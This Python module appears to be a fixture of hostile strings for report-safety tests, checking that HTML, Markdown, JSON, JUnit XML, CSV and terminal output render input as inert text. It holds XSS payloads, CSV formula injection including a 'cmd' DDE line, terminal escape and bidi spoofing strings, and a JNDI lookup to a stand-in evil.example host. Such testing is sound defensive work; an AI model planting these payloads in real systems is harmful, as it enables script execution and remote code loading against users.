"""A corpus of hostile strings for the report-safety tests (``report/test_report_payloads.py``).

Each one tries to break out of one output syntax: HTML (elements, attributes, the inline
script, comments, entities), Markdown (links, images, raw HTML, fences, tables, headings,
mentions), JSON and SARIF (quotes, escapes, separators), JUnit XML (markup, CDATA, characters
XML 1.0 forbids), CSV opened in a spreadsheet (formulas), terminals (escape sequences, bidi
overrides, line separators) and template engines. The tests put every payload into log
records, captured fields and file names, and check each format renders it as inert text.
"""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # HTML body, attributes and the inline script
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    '"><img src=x onerror=alert(3)>',
    "' onmouseover='alert(4)",
    "<svg onload=alert(5)>",
    "<a href=\"javascript:alert(6)\">x</a>",
    "<iframe src=//evil.example></iframe>",
    "<!-- --><style>*{display:none}</style>",
    "&lt;b&gt;double&amp;escaped&lt;/b&gt;",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "';alert(String.fromCharCode(88));//",
    # Markdown
    "[click](javascript:alert(7))",
    "![pixel](https://evil.example/p.png)",
    "<details><summary>x</summary>hidden</details>",
    "```\n# injected heading\n```",
    "````html\n<b>fence</b>",
    "| a | b |\n|---|---|\n| c | d |",
    "# heading",
    "@channel @here",
    "<https://evil.example/autolink>",
    "*bold* _it_ ~~strike~~ `code`",
    # JSON / SARIF
    '"}],"injected":true,"x":[{"',
    "\\u0000 \\\" \\\\",
    # JUnit XML
    "]]><testcase name=\"fake\"/><![CDATA[",
    "</failure></testcase><testcase name=\"x\">",
    "\x01\x02\x0b\x0c\ufffe\uffff",
    # CSV formulas
    "=HYPERLINK(\"http://evil.example\",\"x\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    # terminals
    "\x1b[2J\x1b[H\x1b]0;pwned\x07",
    "\x1b]8;;https://evil.example/\x1b\\link\x1b]8;;\x1b\\",
    "right-to-left \u202egnp.exe\u202c",
    "line\u2028separator\u2029",
    "\x9b31m C1 CSI \x7f",
    # templates and format strings
    "{{7*7}} {% raw %}{{config}}{% endraw %} ${jndi:ldap://evil.example/a} %s%n {0}",
)

# Payloads usable inside a file name (no '/', no NUL), for paths in every format.
NAME_PAYLOADS: tuple[str, ...] = (
    "<img src=x onerror=alert(8)>", "=cmd", "`tick`", "[l](javascript:x)", "a|b", "\x1b[31m",
    "\u202eevil",
)
